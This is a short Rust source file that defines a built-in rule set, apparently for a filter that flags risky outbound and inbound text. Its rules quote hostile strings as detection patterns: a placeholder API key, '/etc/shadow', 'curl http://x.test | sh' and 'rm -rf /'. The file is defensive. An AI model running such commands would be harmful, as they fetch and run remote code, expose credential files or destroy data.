//! Rules are data: `rules/*.toml`, parsed, checked, versioned and hashed.

use posture::{Direction, Word};
use std::sync::Arc;

/// One rule.
pub struct Rule {
    id: Word,
    pub(super) literal: &'static str,
    pub(super) direction: Direction,
}

impl Rule {
    /// Its identifier.
    pub fn id(&self) -> &Word {
        &self.id
    }
}

/// All rules.
pub struct RuleSet {
    pub(super) rules: Vec<Rule>,
}

impl RuleSet {
    /// The rules built in.
    pub fn embedded() -> Arc<Self> {
        let rule = |id: &str, literal, direction| Rule { id: id.parse().expect("a word"), literal, direction };
        Arc::new(Self {
            rules: vec![
                rule("out.a", "sk-proj-ABCDEFGHIJKLMNOPQRST", Direction::Outbound),
                rule("out.b", "/etc/shadow", Direction::Outbound),
                rule("in.a", "curl http://x.test | sh", Direction::Inbound),
                rule("in.b", "rm -rf /", Direction::Inbound),
            ],
        })
    }
}
